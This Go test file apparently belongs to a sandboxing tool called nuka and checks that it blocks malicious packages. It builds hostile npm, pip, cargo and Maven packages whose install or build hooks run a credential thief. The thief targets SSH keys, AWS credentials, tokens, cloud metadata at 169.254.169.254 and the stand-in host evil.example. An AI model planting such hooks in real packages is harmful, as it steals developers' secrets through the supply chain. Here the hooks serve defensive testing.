package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// tarball returns an archive of files, of which tool is executable.
func tarball(t *testing.T, below string, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if err := w.WriteHeader(&tar.Header{Name: below + name, Mode: 0o755, Size: int64(len(files[name]))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(files[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// evilBackend builds a wheel, as PEP 517 has it, after it has run the thief.
const evilBackend = `
import os, subprocess, zipfile
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.run("./tool steal $(cat tries) > ~/stolen 2> ~/kept", shell=True, check=True)
    with zipfile.ZipFile(os.path.join(wheel_directory, "evil-1.0-py3-none-any.whl"), "w") as z:
        z.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        z.writestr("evil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("evil-1.0.dist-info/RECORD", "")
    return "evil-1.0-py3-none-any.whl"
`

const evilBuild = `fn main() {
    let here = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    let s = std::process::Command::new("sh").arg("-c").arg("chmod +x tool; ./tool steal $(cat tries) > ~/stolen 2> ~/kept").current_dir(here).status().unwrap();
    assert!(s.success());
}
`

// evilPOM is a project whose build runs the thief through a plugin: a plugin is how Maven lets what it downloads run programs.
const evilPOM = `<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion><groupId>own</groupId><artifactId>own</artifactId><version>1</version><packaging>pom</packaging>
  <build><plugins><plugin>
    <groupId>org.apache.maven.plugins</groupId><artifactId>maven-antrun-plugin</artifactId><version>3.1.0</version>
    <executions><execution><phase>validate</phase><goals><goal>run</goal></goals><configuration><target>
      <exec executable="sh" failonerror="true"><arg value="-c"/><arg value="chmod +x tool; ./tool steal $$(cat tries) &gt; ~/stolen 2&gt; ~/kept"/></exec>
    </target></configuration></execution></executions>
  </plugin></plugins></build>
</project>
`

// evilRegistries serves one hostile package for each package manager.
func evilRegistries(t *testing.T, tries string) *httptest.Server {
	with := func(below string, files map[string]string) []byte {
		files["tool"], files["tries"] = string(toolNative), tries
		return tarball(t, below, files)
	}
	npm := with("package/", map[string]string{"package.json": `{"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "./tool steal $(cat tries) > ~/stolen 2> ~/kept"}}`})
	pip := with("evil-1.0/", map[string]string{
		"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n", "evil.py": evilBackend,
		"PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
	})
	crate := with("evil-1.0.0/", map[string]string{"Cargo.toml": "[package]\nname = \"evil\"\nversion = \"1.0.0\"\nedition = \"2021\"\n", "build.rs": evilBuild, "src/lib.rs": ""})
	sum := sha512.Sum512(npm)
	var files map[string][]byte
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if strings.HasPrefix(r.URL.Path, "/npm/evil") && !strings.HasSuffix(r.URL.Path, "z") {
			w.Header().Set("Content-Type", "application/json")
		}
		_, _ = w.Write(b)
	}))
	t.Cleanup(s.Close)
	files = map[string][]byte{
		"/npm/evil": fmt.Appendf(nil, `{"name": "evil", "dist-tags": {"latest": "1.0.0"}, "time": {"1.0.0": "2020-01-01T00:00:00.000Z"}, "versions": {"1.0.0": {"name": "evil", "version": "1.0.0",
"hasInstallScript": true, "scripts": {"postinstall": "./tool steal $(cat tries) > ~/stolen 2> ~/kept"}, "dist": {"tarball": "%s/npm/evil/-/evil-1.0.0.tgz", "integrity": "sha512-%s"}}}}`, s.URL, base64.StdEncoding.EncodeToString(sum[:])),
		"/npm/evil/-/evil-1.0.0.tgz":    npm,
		"/pip/evil/":                    fmt.Appendf(nil, "<a href='evil-1.0.tar.gz#sha256=%x'>evil-1.0.tar.gz</a>", sha256.Sum256(pip)),
		"/pip/evil/evil-1.0.tar.gz":     pip,
		"/cargo/config.json":            fmt.Appendf(nil, `{"dl": "%s/cargo/dl"}`, s.URL),
		"/cargo/ev/il/evil":             fmt.Appendf(nil, `{"name":"evil","vers":"1.0.0","deps":[],"cksum":"%x","features":{},"yanked":false}`+"\n", sha256.Sum256(crate)),
		"/cargo/dl/evil/1.0.0/download": crate,
	}
	return s
}

// An installer is a package manager that installs a hostile package.
type installer struct {
	ecosystem string
	runtime   []string // options of nuka exec
	command   []string
	files     map[string]string // of the project
}

func installers(tries string) []installer {
	return []installer{
		{"npm", []string{"--runtime", "node"}, []string{"npm", "install", "--foreground-scripts", "evil@1.0.0"}, map[string]string{"package.json": "{}"}},
		{"pip", []string{"--runtime", "python"}, []string{"pip", "install", "--target", "lib", "evil==1.0"}, nil},
		{"cargo", []string{"--runtime", "rust"}, []string{"cargo", "build"}, map[string]string{"Cargo.toml": "[package]\nname = \"own\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\nevil = \"1\"\n", "src/lib.rs": ""}},
		{"maven", []string{"--runtime", "java", "--with", "maven"}, []string{"mvn", "-q", "-B", "validate"}, map[string]string{"pom.xml": evilPOM, "tool": string(toolNative), "tries": tries}},
	}
}

// TestInstallScripts lets real package managers install hostile packages from a registry of this test. It downloads the runtimes, some 300 MB.
// Maven gets a plugin from its real registry, and a project of this test that has the plugin run the thief. Go runs nothing of what it downloads.
func TestInstallScripts(t *testing.T) {
	if os.Getenv("NUKA_LONG") == "" {
		t.Skip("it downloads runtimes: NUKA_LONG=1 go test ./cmd/nuka -run TestInstallScripts -timeout 1h")
	}
	dir, err := os.MkdirTemp("", "n") //nolint:usetesting // short: the name of a socket has to fit
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	write := func(name, text string) {
		t.Helper()
		at := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{".ssh/id_ed25519", ".aws/credentials", "other/secret"} {
		write(name, "s3cret")
	}
	for _, name := range []string{"agent", "bus"} {
		l, err := net.Listen("unix", filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
	}
	service, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer service.Close()
	home := filepath.Join(dir, "n")
	local := strings.Fields(strings.NewReplacer("DIR", dir, "HOME", home, "SERVICE", service.Addr().String()).Replace("read:DIR/.ssh/id_ed25519 read:DIR/.aws/credentials read:DIR/other/secret " +
		"read:HOME/keys read:HOME/store write:HOME/store/stolen write:DIR/other/stolen unix:HOME/run/control.sock unix:DIR/agent unix:DIR/bus tcp:SERVICE env:s3cret env:DIR/agent"))
	tries := strings.Join(append(slices.Clone(local), "tcp:169.254.169.254:80", "name:example.com", "get:https://evil.example/s3cret", "get:http://169.254.169.254/latest/meta-data/"), " ")
	server := evilRegistries(t, tries)
	env := []string{
		"HOME=" + dir, "NUKA_HOME=" + home, "PATH=" + programs + ":/usr/bin:/bin", "TERM=dumb", "NPM_TOKEN=s3cret", "GITHUB_TOKEN=s3cret", "AWS_SECRET_ACCESS_KEY=s3cret",
		"SSH_AUTH_SOCK=" + dir + "/agent", "DBUS_SESSION_BUS_ADDRESS=unix:path=" + dir + "/bus", "PIP_INDEX_URL=" + strings.Replace(server.URL, "http://", "http://me:s3cret@", 1) + "/pip",
	}
	run := func(in string, args ...string) (string, error) {
		c := exec.Command(args[0], args[1:]...)
		c.Dir, c.Env = filepath.Join(dir, in), env
		out, err := c.CombinedOutput()
		return string(out), err
	}
	nuka := filepath.Join(programs, "nuka")
	defer run(".", nuka, "daemon", "stop") //nolint:errcheck // the home goes
	if out, err := run(".", nuka, "key", "show"); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, in := range installers(tries) { // with the registries of this machine: the runtime of Node has npm of npm's
		if out, err := run(".", slices.Concat([]string{nuka, "exec"}, in.runtime, []string{"--", "true"})...); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	}
	write(".npmrc", "registry="+server.URL+"/npm/\n//"+strings.TrimPrefix(server.URL, "http://")+"/npm/:_authToken=s3cret\n")
	write("project-cargo/.cargo/config.toml", "[source.crates-io]\nreplace-with = \"own\"\n[source.own]\nregistry = \"sparse+"+server.URL+"/cargo/\"\n")
	// Outside of nuka each attempt succeeds, so each is a real one.
	if out, err := run(".", append([]string{filepath.Join(filepath.Dir(programs), "tool.native"), "steal"}, local...)...); err != nil || strings.Contains(out, "kept") {
		t.Fatalf("outside of nuka: %v\n%s", err, out)
	}
	for _, in := range installers(tries) {
		t.Run(in.ecosystem, func(t *testing.T) {
			project := "project-" + in.ecosystem
			write(project+"/.keep", "")
			for name, text := range in.files {
				write(project+"/"+name, text)
			}
			out, err := run(project, slices.Concat([]string{nuka, "exec"}, in.runtime,
				[]string{"--app", "evil-" + in.ecosystem, "--allow", "files=.", "--record", in.ecosystem, "--cooldown", "0", "--"}, in.command)...)
			if err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			got := func(name string) string {
				found, _ := filepath.Glob(filepath.Join(home, "*", "evil-"+in.ecosystem, name))
				more, _ := filepath.Glob(filepath.Join(home, "*", "*", "evil-"+in.ecosystem, name))
				if found = append(found, more...); len(found) != 1 {
					t.Fatalf("%s is at %q\n%s", name, found, out)
				}
				b, err := os.ReadFile(found[0])
				if err != nil {
					t.Fatal(err)
				}
				return string(b)
			}
			if stolen := got("stolen"); stolen != "" {
				t.Errorf("the install script got\n%s", stolen)
			}
			for _, try := range strings.Fields(tries) {
				if kept := got("kept"); !strings.Contains(kept, "kept "+try+":") {
					t.Errorf("the install script did not try %s:\n%s", try, kept)
				}
			}
			for _, host := range []string{"https://evil.example", "http://169.254.169.254"} {
				if !strings.Contains(out, "nuka: refused: "+host+": the client may not reach") {
					t.Errorf("nobody says that %s was refused:\n%s", host, out)
				}
			}
		})
	}
}
